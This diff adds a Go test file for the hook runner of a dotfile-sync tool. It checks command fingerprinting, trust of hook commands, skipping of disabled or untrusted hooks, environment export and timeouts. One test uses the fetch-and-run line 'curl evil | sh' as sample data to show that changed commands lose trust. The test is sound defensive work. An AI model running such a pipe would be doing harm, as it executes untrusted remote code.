@@ -0,0 +1,91 @@
+package hooks
+
+import (
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/ihavespoons/synq/internal/config"
+)
+
+func entry(postChange string) config.FileEntry {
+	return config.FileEntry{
+		Name:   "tmux.conf",
+		Source: "home/.tmux.conf",
+		Hooks:  &config.Hooks{PostChange: postChange},
+	}
+}
+
+func TestFingerprintChangesWithCommands(t *testing.T) {
+	a := Fingerprint(entry("tmux source-file ~/.tmux.conf"))
+	b := Fingerprint(entry("curl evil | sh"))
+	if a == "" || a == b {
+		t.Errorf("expected distinct non-empty fingerprints, got %q and %q", a, b)
+	}
+	if Fingerprint(config.FileEntry{Name: "x"}) != "" {
+		t.Error("expected empty fingerprint without hooks")
+	}
+}
+
+func TestIsTrusted(t *testing.T) {
+	f := entry("echo hi")
+	trusted := map[string]string{f.Name: Fingerprint(f)}
+	if !IsTrusted(trusted, f) {
+		t.Error("expected entry to be trusted")
+	}
+	if IsTrusted(trusted, entry("echo changed")) {
+		t.Error("expected changed commands to be untrusted")
+	}
+}
+
+func TestRun_SkipsUntilEnabledAndTrusted(t *testing.T) {
+	f := entry("echo hi")
+	r := &Runner{Timeout: time.Second}
+
+	res := r.Run(f, PostChange, nil)
+	if res == nil || res.Skipped == "" {
+		t.Fatalf("expected disabled hook to be skipped, got %+v", res)
+	}
+
+	r.Enabled = true
+	if res := r.Run(f, PostChange, nil); res.Skipped == "" {
+		t.Errorf("expected untrusted hook to be skipped, got %+v", res)
+	}
+
+	if res := r.Run(f, PreApply, nil); res != nil {
+		t.Errorf("expected nil result for missing hook, got %+v", res)
+	}
+}
+
+func TestRun_ExportsEnvironment(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses sh")
+	}
+	f := entry(`echo "$SYNQ_HOOK $SYNQ_NAME $SYNQ_TARGET"`)
+	r := &Runner{
+		RepoDir: t.TempDir(),
+		Enabled: true,
+		Timeout: 5 * time.Second,
+		Trusted: map[string]string{f.Name: Fingerprint(f)},
+	}
+
+	res := r.Run(f, PostChange, map[string]string{"SYNQ_TARGET": "/home/me/.tmux.conf"})
+	if res.Err != nil {
+		t.Fatal(res.Err)
+	}
+	want := "post_change tmux.conf /home/me/.tmux.conf"
+	if res.Output != want {
+		t.Errorf("Output = %q, want %q", res.Output, want)
+	}
+}
+
+func TestExec_Timeout(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses sh")
+	}
+	_, err := Exec("sleep 5", t.TempDir(), nil, 100*time.Millisecond)
+	if err == nil || !strings.Contains(err.Error(), "timed out") {
+		t.Errorf("Exec() error = %v, want timeout", err)
+	}
+}